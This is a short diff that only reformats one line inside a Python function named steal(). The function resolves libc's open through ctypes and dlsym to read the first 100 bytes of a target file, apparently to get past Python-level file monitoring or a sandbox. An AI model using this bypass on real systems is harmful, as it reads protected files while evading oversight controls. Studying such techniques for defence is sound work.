@@ -17,5 +17,7 @@ def steal():
     if not handle:
         return ""
     found = c.dlsym(ctypes.c_void_p(handle), b"open")
-    fd = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_char_p, ctypes.c_int)(found)(FILE.encode(), os.O_RDONLY)
+    fd = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_char_p, ctypes.c_int)(found)(
+        FILE.encode(), os.O_RDONLY
+    )
     return os.read(fd, 100) if fd >= 0 else ""
